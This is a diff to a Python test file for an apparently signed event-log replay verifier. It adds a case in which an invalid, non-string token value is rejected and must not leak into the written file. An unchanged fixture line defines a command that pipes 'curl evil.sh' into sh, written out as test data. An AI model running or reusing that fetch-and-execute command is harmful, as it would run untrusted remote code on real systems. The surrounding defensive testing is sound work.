@@ -27,7 +27,7 @@ from schemas.errors import DecodeError
 from schemas.records import Record
 
 T0 = datetime(2026, 12, 6, 3, 0, tzinfo=UTC)
-PLAIN, MASKED, LOSSY, LOOKALIKE = 2, 3, 4, 5
+PLAIN, MASKED, LOSSY, LOOKALIKE, INVALID = 2, 3, 4, 5, 6
 EVIL = '{"command":"curl evil.sh|sh","env":{"X_TOKEN":"********"}}'
 
 
@@ -50,6 +50,7 @@ def log(orchestrator: Identity) -> list[Record]:
         record(MASKED, subjects.job("clear", "requested"), b'{"command": "true", "env": {"X_TOKEN": "in-clear"}}'),
         record(LOSSY, subjects.job("bad", "requested"), b'{"command": "echo \xff"}'),
         record(LOOKALIKE, subjects.job("look", "requested"), b'{"command": "true", "env": {"GREETING": "********"}}'),
+        record(INVALID, subjects.job("invalid", "requested"), b'{"command": "true", "env": {"X_TOKEN": 12345678}}'),
     ]
 
 
@@ -88,12 +89,13 @@ def test_masked_and_lossy_rows_are_proven_by_the_writers_signature(ring: Keyring
     path = written(ring, tmp_path / "replay.duckdb", admin)
     report = verify_file(path, [ring.account_public_key])
     assert report.ok, report.problems
-    assert [(c.seq, c.type) for c in report.copies] == [(MASKED, "job.requested"), (LOSSY, "job.requested")]
+    assert [(c.seq, c.type) for c in report.copies] == [(MASKED, "job.requested"), (LOSSY, "job.requested"), (INVALID, "job.requested")]
     assert "masks it" in report.copies[0].reason and "'replayer'" in report.copies[0].reason
-    assert report.unverifiable == [] and [r.seq for r in report.rejected] == [LOSSY]
+    # Refused as the log's bytes were, though the copies would decode (U+FFFD, a masked string).
+    assert report.unverifiable == [] and [r.seq for r in report.rejected] == [LOSSY, INVALID]
     # A `********` the publisher sent is its bytes: proven as they are, not a copy.
     assert LOOKALIKE not in [c.seq for c in report.copies]
-    assert b"in-clear" not in path.read_bytes()
+    assert b"in-clear" not in path.read_bytes() and b"12345678" not in path.read_bytes()
 
 
 def test_a_rewritten_unsigned_request_fails_even_with_a_masked_env(ring: Keyring, tmp_path: Path) -> None:
@@ -134,7 +136,7 @@ def test_a_file_from_before_signed_copies_says_what_it_cannot_prove(ring: Keyrin
     drop = [f"ALTER TABLE events DROP COLUMN {c}" for c in ("copy_kind", "copy_signer", "copy_signature")]
     old = changed(path, tmp_path / "old.duckdb", *drop, "DROP TABLE copy_signers")
     report = verify_file(old, [ring.account_public_key])
-    assert set(problems(report)) == {MASKED, LOSSY}
+    assert set(problems(report)) == {MASKED, LOSSY, INVALID}
     assert "from before signed copies" in problems(report)[MASKED] and "nexus replay" in problems(report)[MASKED]
     # Without such rows an old file proves what it did before.
     plain = changed(old, tmp_path / "old-plain.duckdb", f"DELETE FROM events WHERE seq >= {MASKED}", f"UPDATE checkpoint SET seq = {PLAIN}")
